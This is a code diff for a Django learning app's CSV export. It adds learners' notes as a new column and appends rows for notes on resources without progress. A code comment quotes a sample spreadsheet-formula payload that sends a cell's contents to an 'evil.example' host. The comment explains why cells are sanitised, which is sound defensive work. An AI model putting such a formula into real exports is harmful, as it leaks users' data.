@@ -1,5 +1,5 @@
-"""A learner's progress as a CSV file they can keep (their data, in a format any spreadsheet
-or script reads)."""
+"""A learner's progress and notes as a CSV file they can keep (their data, in a format any
+spreadsheet or script reads)."""
 
 from __future__ import annotations
 
@@ -12,7 +12,7 @@ from django.contrib.auth.models import User
 from learn.selectors import LearnerState
 from recommender import selectors as recommender_selectors
 
-COLUMNS = ["title", "address", "state", "rating", "completed_at", "updated_at"]
+COLUMNS = ["title", "address", "state", "rating", "completed_at", "updated_at", "note"]
 
 # A cell starting with one of these is a formula to spreadsheet programs: a feed entry titled
 # '=HYPERLINK("https://evil.example/?"&A1,"Open")' would run in the learner's spreadsheet.
@@ -30,12 +30,16 @@ def _when(moment: datetime | None) -> str:
 
 
 def progress_csv(*, user: User) -> str:
-    """Every progress row of the learner (any state, withdrawn resources too), newest first."""
+    """Every progress row of the learner (any state, withdrawn resources too), newest first,
+    each with the learner's note on it; then the notes on resources without progress (state
+    and dates empty), newest first, so the download holds everything they wrote."""
     out = io.StringIO()
     writer = csv.writer(out)
     writer.writerow(COLUMNS)
+    notes = {note.resource_id: note for note in recommender_selectors.note_export(user=user)}
     rows = recommender_selectors.progress_list(user=user).order_by("-updated_at", "-pk")
     for row in rows:
+        note = notes.pop(row.resource_id, None)
         writer.writerow(
             [
                 spreadsheet_safe(row.resource.title),
@@ -44,6 +48,19 @@ def progress_csv(*, user: User) -> str:
                 row.rating or "",
                 _when(row.completed_at),
                 _when(row.updated_at),
+                spreadsheet_safe(note.text) if note else "",
+            ]
+        )
+    for note in notes.values():  # still newest first: dicts keep the selector's order
+        writer.writerow(
+            [
+                spreadsheet_safe(note.resource.title),
+                spreadsheet_safe(note.resource.url or ""),
+                "",
+                "",
+                "",
+                "",
+                spreadsheet_safe(note.text),
             ]
         )
     return out.getvalue()
